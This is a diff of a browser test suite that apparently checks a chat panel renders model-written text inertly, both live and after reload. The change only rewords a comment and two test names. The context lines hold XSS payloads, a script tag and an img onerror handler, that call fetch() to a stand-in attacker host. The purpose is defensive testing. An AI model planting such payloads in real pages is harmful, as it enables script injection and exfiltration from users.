@@ -4,7 +4,7 @@ import { startBrowser, type TestBrowser } from './browser.ts';
 import { axeViolations, faultsIn } from './looks.ts';
 import { type Person, person } from './person.ts';
 
-/** What would call here, were it more than text: the address stands for the page of an attacker. */
+/** Markup that would contact the attacker's address if it were more than text. */
 const attacks = (evil: string) => [
   `<script>fetch('${evil}/script')</script>`,
   `<img src=x onerror="fetch('${evil}/onerror')">`,
@@ -72,7 +72,7 @@ afterAll(async () => {
 
 const isForeign = (url: string) => !/^(chrome-extension|data|blob):/.test(url);
 
-test('nothing that a model writes does anything but be shown', async () => {
+test('text of a model runs nothing and loads nothing', async () => {
   const address = panel.page.url();
   await panel.send('Attack');
   const shown = await panel.answer('done');
@@ -100,7 +100,7 @@ test('nothing that a model writes does anything but be shown', async () => {
   expect(new Set(links)).toEqual(new Set(['http:']));
 });
 
-test('stored, it is as harmless', async () => {
+test('a stored attack is equally harmless', async () => {
   await panel.page.reload();
   await panel.page.waitForSelector('[data-run-state="done"] [role="group"][aria-label="Table"]');
   expect(evil.requests).toEqual([]);
